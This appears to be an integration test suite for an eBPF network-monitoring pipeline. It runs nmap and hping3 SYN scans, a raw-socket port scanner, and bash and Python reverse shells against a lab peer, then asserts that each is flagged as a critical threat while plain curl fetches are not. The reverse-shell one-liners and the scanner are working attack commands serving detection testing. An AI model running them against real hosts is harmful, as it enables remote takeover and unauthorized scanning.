"""Outbound behaviour with the kernel and real tools (issue 12): the real
pipeline `unified_ebpf.py -i VETH --no-cgroup | llm_analyzer.py --backend
rules`, the loader in the lab's dut namespace (raw-socket tracepoints, and
the egress counter on its veth), and from there Debian's nmap -sS, hping3, a
home-made raw SYN sender, bash reverse shells to the peer on 443 and 53, and
benign curl/HTTP fetches.

The socket() tracepoints are machine-wide: other processes' raw sockets
(another suite's hping3) show up in these records too, so every assertion
names the pid this test started."""

from __future__ import annotations

import json
import subprocess
import textwrap

import pytest

from netlab import lab, kernel_test_skip_reason, read_json, validate, wait_until  # noqa: F401
from netsentinel.testing.lab import start_pipeline

SKIP = kernel_test_skip_reason()
pytestmark = pytest.mark.skipif(SKIP is not None, reason=str(SKIP))

LISTEN = textwrap.dedent("""
    import socket, sys
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[1], int(sys.argv[2])))
    s.listen(1)
    print("ready", flush=True)
    c, _ = s.accept()
    print("connected", flush=True)
    sys.stdin.readline()   # hold the shell's connection open until told
    c.close()
""")

RAW_SYN = textwrap.dedent("""
    import socket, struct, sys
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    print("open", flush=True)
    sys.stdin.readline()          # until the loader has seen the socket
    for port in range(20000, 20030):
        tcp = struct.pack("!HHIIBBHHH", 40000, port, 1, 0, 5 << 4, 0x02, 1024, 0, 0)
        s.sendto(tcp, (sys.argv[1], 0))
    sys.stdin.readline()          # until its egress was judged
""")


@pytest.fixture(scope="module")
def pipeline(lab, tmp_path_factory):
    records = tmp_path_factory.mktemp("records")
    cfg = records / "filter_config.json"
    cfg.write_text("{}")
    loader, analyzer = start_pipeline(lab, records, cfg, ["--backend", "rules", "--status-interval",
                                                          "0.3", "--history"], ["--no-cgroup"])
    try:
        wait_until(lambda: (read_json(records / "analyzer_status.json") or {}).get("input", {})
                   .get("other_events", {}).get("startup"), timeout=90, what="the pipeline to start")
        yield records
    finally:
        loader.terminate()
        assert loader.wait(timeout=30) == 0, (records / "loader.log").read_text()[-2000:]
        assert analyzer.wait(timeout=30) == 0, (records / "analyzer.log").read_text()[-2000:]


def judged(records, pid: int) -> list[dict]:
    """Every verdict on an event of this pid, from the full history."""
    try:
        text = (records / "analyzed_events.jsonl").read_text()
    except FileNotFoundError:
        return []
    return [e for e in map(json.loads, text.splitlines()) if e["event"].get("pid") == pid]


def pending(records) -> list[dict]:
    return [t for t in read_json(records / "pending_threats.json", []) if t["status"] == "pending"]


def raw_verdicts(records, pid: int, timeout: float = 20) -> list[dict]:
    return wait_until(lambda: [e for e in judged(records, pid) if e["event"]["type"] == "raw_socket"],
                      timeout=timeout, what=f"raw_socket verdicts for pid {pid}")


def test_nmap_syn_scan_is_a_critical_threat_naming_nmap(lab, pipeline):
    # --scan-delay: long enough a run for the loader to read nmap's sockets
    # while it lives (a run done before that is reported unattributed).
    p = subprocess.Popen(["ip", "netns", "exec", lab.dut, "nmap", "-sS", "-n", "-Pn", "-p", "1-200",
                          "--max-retries", "0", "--scan-delay", "5ms", lab.peer4], stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    assert p.wait(timeout=120) == 0
    found = raw_verdicts(pipeline, p.pid)      # `ip netns exec` execs nmap: same pid
    for e in found:
        validate(dict(e["event"]))
        assert e["event"]["comm"] == "nmap" and e["event"]["exe"] == "/usr/bin/nmap"
        assert "-sS" in e["event"]["cmdline"]
        assert (e["level"], e["category"]) == ("CRITICAL", "raw_scan")
    # One threat for nmap: it shows its strongest sighting, whole (the raw
    # socket, or the port scan its egress then measured). The stack may
    # report the same scan from its drops: a threat about a source, no exe.
    assert wait_until(lambda: [t for t in pending(pipeline) if t["category"] in ("raw_scan", "port_scan")
                               and t["event"].get("exe") == "/usr/bin/nmap"
                               and "raw_scan" in {s["category"] for s in t["sightings"]}], timeout=10,
                      what="a pending threat naming nmap with its raw_scan sighting")
    # nmap -sS never calls connect(): no connection events; the raw socket and
    # what it sent (counted at egress) show it.
    assert not [e for e in judged(pipeline, p.pid) if e["event"]["type"] == "connection"]
    def scans() -> list:
        return [e for e in judged(pipeline, p.pid) if e["event"]["type"] == "egress"]
    # Every probe seen leaving, over one or more windows (a first window below
    # the threshold is not recorded; the sliding count includes it).
    wait_until(lambda: any("sent to 200 distinct ports" in e["reason"] for e in scans()),
               timeout=20, what="nmap's 200 probes counted")
    for scan in scans():
        validate(dict(scan["event"]))
        assert (scan["level"], scan["category"]) == ("CRITICAL", "port_scan")
        assert scan["event"]["attribution"] == "cookie" and scan["event"]["comm"] == "nmap"
        assert [t["daddr"] for t in scan["event"]["targets"]] == [lab.peer4]


def test_hping3_syn_probe_names_hping3(lab, pipeline):
    p = subprocess.Popen(["ip", "netns", "exec", lab.dut, "hping3", "-S", "-c", "3", "-i", "u10000",
                          "-p", "80", lab.peer4], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    p.wait(timeout=60)   # hping3 exits 1 when no reply came back; the packets went out
    found = raw_verdicts(pipeline, p.pid)
    assert {e["event"]["comm"] for e in found} == {"hping3"}
    assert all(e["level"] == "CRITICAL" and e["event"]["exe"] == "/usr/sbin/hping3" for e in found)


def test_an_unknown_raw_sender_is_high_and_its_fan_out_critical(lab, pipeline):
    r = subprocess.Popen(["ip", "netns", "exec", lab.dut, "/usr/bin/python3", "-c", RAW_SYN,
                          lab.peer4], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert r.stdout.readline().strip() == "open"
        (e,) = raw_verdicts(pipeline, r.pid)
        assert e["event"]["comm"] == "python3" and e["event"]["exe"].startswith("/usr/bin/python3")
        assert (e["level"], e["category"], e["rule_ids"]) == ("HIGH", "raw_socket", ["raw-socket"])
        r.stdin.write("send\n")
        r.stdin.flush()
        out = wait_until(lambda: [e for e in judged(pipeline, r.pid) if e["event"]["type"] == "egress"],
                         timeout=20, what="the sender's egress judged")[0]
        assert out["event"]["attribution"] == "cookie"     # the socket's own opener
        assert (out["level"], out["category"]) == ("CRITICAL", "port_scan")
        assert out["event"]["targets"][0]["tcp_ports"] == list(range(20000, 20030))
        # One threat for the process: its HIGH raw socket, raised by the scan
        # (pending_threats.json is written by the records flusher, after the
        # verdict is judged: waited for, not read at once).
        mine = wait_until(lambda: [t for t in pending(pipeline) if t["event"].get("pid") == r.pid
                                   and t["count"] == 2], timeout=20, what="the raw sender's threat raised by its scan")
        (t,) = [t for t in pending(pipeline) if t["event"].get("pid") == r.pid]
        assert len(mine) == 1 and (t["level"], t["category"], t["count"]) == ("CRITICAL", "port_scan", 2)
    finally:
        r.stdin.close()
        assert r.wait(timeout=30) == 0


@pytest.fixture
def session(lab):
    """listen(addr, port): a TCP listener on the peer that holds the first
    connection open; shell(argv, ...): a process in the dut. Both are ended
    at teardown."""
    listeners, shells = [], []

    class Session:
        @staticmethod
        def listen(addr: str, port: int) -> subprocess.Popen:
            p = subprocess.Popen(["ip", "netns", "exec", lab.peer, "/usr/bin/python3", "-c", LISTEN,
                                  addr, str(port)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                 text=True)
            listeners.append(p)
            assert p.stdout.readline().strip() == "ready"
            return p

        @staticmethod
        def shell(*argv: str, **kw) -> subprocess.Popen:
            p = subprocess.Popen(["ip", "netns", "exec", lab.dut, *argv], stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL, **kw)
            shells.append(p)
            return p

    yield Session()
    for p in listeners:
        p.stdin.write("\n")
        p.stdin.close()
        p.wait(timeout=10)
    for p in shells:
        p.kill()
        p.wait()


def reverse_shell_threat(records, target: str, port: int) -> dict:
    return wait_until(lambda: [t for t in pending(records) if t["category"] == "reverse_shell"
                               and t["target"] == target and t["event"]["dport"] == port],
                      timeout=20, what=f"a reverse_shell threat to {target}:{port}")[0]


@pytest.mark.parametrize("port", [443, 53])
def test_bash_reverse_shell_is_critical_whatever_the_port(lab, pipeline, session, port):
    listener = session.listen(lab.peer4, port)
    shell = session.shell("bash", "-c", f"bash -i >& /dev/tcp/{lab.peer4}/{port} 0>&1")
    assert listener.stdout.readline().strip() == "connected"
    threat = reverse_shell_threat(pipeline, lab.peer4, port)
    ev = validate(dict(threat["event"]))
    assert threat["level"] == "CRITICAL"
    assert ev["comm"] == "bash" and ev["exe"] == "/usr/bin/bash"
    assert shell.pid in (ev["pid"], ev["ppid"])
    assert ev["signals"]["stdio_socket"].endswith(f"tcp {lab.peer4}:{port} (ESTABLISHED)")


PY_SHELL = ("import socket, subprocess, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2]))); "
            "sys.stdin.readline(); subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)")


@pytest.mark.parametrize("kind,port", [("bash", 80), ("python", 8080)])
def test_a_reverse_shell_that_redirects_late_is_still_critical(lab, pipeline, session, kind, port):
    """Connect, wait (longer than the loader's one-second hold), then put the
    socket on stdin/stdout: bash in itself, python in the child it spawns.
    The kernel's dup report brings the connection back, with its signal."""
    listener = session.listen(lab.peer4b, port)
    argv = (["bash", "-c", f"exec 3<>/dev/tcp/{lab.peer4b}/{port}; read go; exec bash -i <&3 >&3 2>&3"]
            if kind == "bash" else ["/usr/bin/python3", "-c", PY_SHELL, lab.peer4b, str(port)])
    shell = session.shell(*argv, stdin=subprocess.PIPE, text=True)
    assert listener.stdout.readline().strip() == "connected"
    first = wait_until(lambda: [e for e in judged(pipeline, shell.pid)
                                if e["event"]["type"] == "connection"], timeout=20,
                       what="the shell's connection, reported without a signal")
    assert first[0]["level"] == "INFO" and "signals" not in first[0]["event"]
    shell.stdin.write("go\n")
    shell.stdin.flush()
    threat = reverse_shell_threat(pipeline, lab.peer4b, port)
    ev = validate(dict(threat["event"]))
    assert threat["level"] == "CRITICAL" and ev["mode"] == "stdio"
    if kind == "bash":
        # The threat may merge an earlier bash's sighting (one threat per
        # process identity and category): this shell's own verdict is CRITICAL.
        mine = wait_until(lambda: [e for e in judged(pipeline, shell.pid)
                                   if e["event"].get("mode") == "stdio"], timeout=20,
                          what="this shell's stdio sighting")
        assert mine[0]["level"] == "CRITICAL" and mine[0]["event"]["comm"] == "bash"
    else:   # the child python forked, before or after its exec of sh
        assert ev["ppid"] == shell.pid and ev["comm"] in ("python3", "sh")


def test_curl_and_http_fetches_raise_no_threat(lab, pipeline):
    servers = [subprocess.Popen(["ip", "netns", "exec", lab.peer, "/usr/bin/python3", "-m",
                                 "http.server", str(port), "--bind", "0.0.0.0"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
               for port in (80, 443)]
    try:
        wait_until(lambda: all(f":{p} " in lab.ns_exec(lab.peer, "ss", "-ltnH").stdout
                               for p in (80, 443)), timeout=20, what="the peer's web servers")
        pids = []
        for url in (f"http://{lab.peer4}:443/", f"http://{lab.peer4}/", f"http://{lab.peer4b}/"):
            c = subprocess.Popen(["ip", "netns", "exec", lab.dut, "curl", "-sf", "-o", "/dev/null", url])
            assert c.wait(timeout=30) == 0
            pids.append(c.pid)
        fetch = subprocess.Popen(["ip", "netns", "exec", lab.dut, "/usr/bin/python3", "-c",
                                  "import sys, urllib.request as u\n"
                                  "for a in sys.argv[1:]: u.urlopen(f'http://{a}/').read()",
                                  lab.peer4, lab.peer4b, lab.peer4])
        assert fetch.wait(timeout=30) == 0
        pids.append(fetch.pid)
        for pid in pids:
            seen = wait_until(lambda: judged(pipeline, pid), timeout=20, what=f"verdicts for {pid}")
            assert all(e["level"] == "INFO" and "signals" not in e["event"] for e in seen), seen
        assert not [t for t in pending(pipeline) if t["event"].get("pid") in pids]
    finally:
        for s in servers:
            s.terminate()
            s.wait(timeout=10)


def test_an_egress_counter_that_cannot_attach_says_why_in_one_line():
    from netsentinel.kernel import KernelError
    from netsentinel.kernel.outbound import OutboundMonitor
    m = OutboundMonitor()
    m.start(lambda raw: None, lambda n: None)
    try:
        with pytest.raises(KernelError, match=r"^cannot attach the egress counter to nosuch0 \(") as e:
            m.attach_egress("nosuch0")
        assert "\n" not in str(e.value) and m.egress_link is None
    finally:
        m.stop()
    assert m.bpf is None
